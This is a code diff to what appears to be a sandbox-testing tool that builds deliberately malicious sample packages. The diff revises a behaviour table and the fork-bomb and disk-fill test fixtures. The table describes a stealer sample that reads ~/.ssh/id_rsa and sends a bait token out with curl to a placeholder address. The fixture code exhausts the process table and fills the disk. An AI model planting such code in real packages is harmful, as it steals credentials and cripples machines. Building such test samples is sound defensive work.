@@ -12,8 +12,8 @@ malicious sample can carry several behaviours at once:
 | `stealer` | ``setup.py``: TCP connect to 203.0.113.7:443, drops a code ``.pth`` | install |
 | | import: reads ``~/.ssh/id_rsa``, runs ``sh -c "curl ... <bait token>"`` | import |
 | `segfault` | a test dereferences NULL through ctypes | tests |
-| `fork_bomb` | a test forks until ``fork`` fails 60 times (RLIMIT_NPROC), children wait | tests |
-| `disk_fill` | a test allocates (``fallocate``) then writes until ENOSPC | tests |
+| `fork_bomb` | a test spawns ``sleep`` until refused 60 times (RLIMIT_NPROC) | tests |
+| `disk_fill` | a test allocates (``fallocate``), writes until ENOSPC, then tidies | tests |
 | `memory_hog` | a test allocates and touches memory until the guest's OOM killer strikes | tests |
 | `flood` | import prints 1 GiB to stdout (not under pytest) | import |
 
@@ -113,22 +113,18 @@ SEGFAULT_TEST = dedent(
 FORK_BOMB_TEST = dedent(
     """
     import os
-    import signal
 
 
-    def test_forks_until_refused():
+    def test_spawns_until_refused():
+        # posix_spawn, not fork: forking a 40 MB pytest 500 times takes minutes under TCG;
+        # the process table fills the same way.
         children, refused = 0, 0
         while refused < 60:
             try:
-                pid = os.fork()
+                os.posix_spawn("/bin/sleep", ["sleep", "600"], {})
             except OSError:  # EAGAIN: RLIMIT_NPROC reached
                 refused += 1
                 continue
-            if pid == 0:
-                try:
-                    signal.pause()
-                finally:
-                    os._exit(0)
             children += 1
         assert children > 0
     """
@@ -138,6 +134,7 @@ DISK_FILL_TEST = dedent(
     """
     import errno
     import os
+    import time
 
 
     def test_fills_the_disk(tmp_path):
@@ -158,6 +155,9 @@ DISK_FILL_TEST = dedent(
                     f.flush()
             except OSError as exc:
                 assert exc.errno == errno.ENOSPC
+        time.sleep(1)  # full for a moment, then tidy: pytest must write its report
+        for path in tmp_path.iterdir():
+            path.unlink()
         assert hit
     """
 )
@@ -230,7 +230,7 @@ def segfault(dest: Path) -> list[Path]:
 
 
 def fork_bomb(dest: Path) -> list[Path]:
-    """A release whose test forks until the process limit refuses."""
+    """A release whose test fills the process table until the process limit refuses."""
     return make_project(dest, "forkbomb", "1.0", test_body=_literal(FORK_BOMB_TEST)).files
 
 
